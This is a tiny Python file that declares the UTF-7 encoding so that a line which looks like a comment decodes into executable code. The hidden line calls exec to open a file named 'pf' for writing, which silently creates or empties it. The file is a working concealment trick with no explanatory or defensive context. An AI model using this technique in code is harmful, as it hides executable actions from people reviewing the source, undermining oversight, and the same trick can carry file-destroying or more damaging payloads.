# This Python file uses the following encoding: U7
#+AAo-+AHs-+AH0-.get(exec(+ACI-open('pf','w')+ACI-))
